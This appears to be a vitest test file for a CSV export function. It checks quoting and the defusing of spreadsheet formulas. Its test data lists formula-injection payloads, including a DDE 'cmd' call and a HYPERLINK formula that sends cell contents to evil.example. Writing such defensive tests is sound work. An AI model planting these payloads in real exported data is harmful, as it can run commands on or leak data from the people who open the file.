import { describe, expect, it } from 'vitest';

import { toCsv } from './csv.js';

describe('toCsv', () => {
  const columns = [
    { header: 'slug', value: (row: { slug: string; note: string | null }) => row.slug },
    { header: 'note', value: (row: { slug: string; note: string | null }) => row.note },
  ];

  it('writes a header and one line per item, CRLF-terminated', () => {
    expect(toCsv([{ slug: 'a', note: 'x' }], columns)).toBe('slug,note\r\na,x\r\n');
  });

  it('quotes commas, quotes and newlines; null is empty', () => {
    expect(toCsv([{ slug: 'a,b', note: 'say "hi"\n' }, { slug: 'c', note: null }], columns)).toBe(
      'slug,note\r\n"a,b","say ""hi""\n"\r\nc,\r\n',
    );
  });

  it('defuses spreadsheet formulas but keeps negative numbers', () => {
    expect(toCsv([{ slug: '=cmd()', note: '-12.5' }], columns)).toBe("slug,note\r\n'=cmd(),-12.5\r\n");
  });

  const cell = (value: unknown) => toCsv([{ slug: value as string, note: null }], columns).split('\r\n')[1]!.replace(/,$/, '');
  const unquote = (text: string) => (text.startsWith('"') ? text.slice(1, -1).replaceAll('""', '"') : text);

  it.each([
    "-2+3+cmd|' /C calc'!A0",
    '-1+HYPERLINK("http://evil.example/?x="&A1,"click")',
    '-1-1',
    '-cmd',
    '- 1',
    '-0x10',
    '-1e5+1',
    '+1',
    '+cmd|x!A0',
    '=1+1',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\uff1d1+1',
    '\uff0bcmd',
    '\uff0dcmd',
    '\uff20SUM(A1)',
    '\u3000=1',
  ])('prefixes %j so a spreadsheet reads it as text', (payload) => {
    expect(unquote(cell(payload))).toBe(`'${payload}`);
  });

  it.each(['-12.5', '-3', '0', '42', '0.15000000', '-1.5e-7', '2E10', '2026-01-01', 'llama-3.3-70b', 'a=b', 'x-1'])('leaves %j as it is', (value) => {
    expect(unquote(cell(value))).toBe(value);
  });

  it('checks numbers and objects by their text: a negative number stays, an object starting with - cannot occur', () => {
    expect(cell(-12.5)).toBe('-12.5');
    expect(unquote(cell({ '=a': 1 }))).toBe('{"=a":1}');
  });
});
